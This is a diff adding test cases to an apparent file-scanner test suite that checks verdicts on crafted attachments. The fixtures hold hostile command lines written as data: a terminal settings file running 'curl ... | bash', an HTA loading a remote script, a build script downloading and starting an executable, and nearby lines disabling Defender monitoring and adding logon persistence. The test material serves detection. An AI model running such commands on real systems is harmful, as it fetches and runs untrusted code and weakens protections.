@@ -418,6 +418,34 @@ def sheet_fetches():
             suspicious("SHEET_FETCHES"))
 
 
+@case
+def terminal_command():
+    """Settings of macOS' terminal with a command."""
+    return (with_file("Plan.terminal", b'<?xml version="1.0"?><plist version='
+                      b'"1.0"><dict><key>CommandString</key><string>curl '
+                      b'http://files.example.com/a | bash</string></dict>'
+                      b'</plist>'),
+            malware("SETTINGS_SHORTCUT", "SCRIPT_DOWNLOADS_AND_RUNS"))
+
+
+@case
+def desktop_entry_control():
+    """A Linux desktop entry of a program in Python."""
+    return (with_file("notes.desktop", b"[Desktop Entry]\nType=Application\n"
+                      b"Name=Notes\nExec=env LANG=C python3 /usr/share/notes/"
+                      b"notes.py %U\n"),
+            dict(verdict="suspicious", action="flag",
+                 only=["SHORTCUT_ATTACHMENT"]))
+
+
+@case
+def link_opens_handler():
+    """A link that shows another machine's files as if they were here."""
+    return (base.with_html('<a href="search-ms:query=plan&amp;crumb=location:'
+                           '\\\\203.0.113.9@80\\plans&amp;displayname=Plans">'
+                           'Plans</a>'), malware("LINK_OPENS_HANDLER"))
+
+
 # --- notebooks, disk images --------------------------------------------------------
 
 @case
@@ -528,6 +556,26 @@ def script_disables():
                       b"-DisableRealtimeMonitoring $true\r\nschtasks /create "
                       b"/tn a /tr a.exe /sc onlogon\r\n"),
             malware("SCRIPT_DISABLES_PROTECTION", "SCRIPT_PERSISTS"))
+
+
+@case
+def script_page_remote():
+    """A page that runs as a program takes its script from elsewhere."""
+    return (with_file("Plan.hta", b'<html><hta:application id=a><script src='
+                      b'"http://files.example.com/a.js"></script></html>'),
+            malware("SCRIPT_DOWNLOADS_AND_RUNS"))
+
+
+@case
+def script_downloads_in_source():
+    """A build script among many files."""
+    files = [("src/file%d.c" % n, b"int x%d;\n" % n) for n in range(24)]
+    files.append(("build.cmd", b"@echo off\r\npowershell -Command Invoke-WebR"
+                  b"equest https://example.org/tool.exe -OutFile tool.exe\r\n"
+                  b"start tool.exe\r\n"))
+    return (with_file("source.zip", base.archive(*files), "application/zip"),
+            suspicious("SCRIPT_DOWNLOADS_IN_SOURCE",
+                       absent=["SCRIPT_DOWNLOADS_AND_RUNS"]))
 
 
 @case
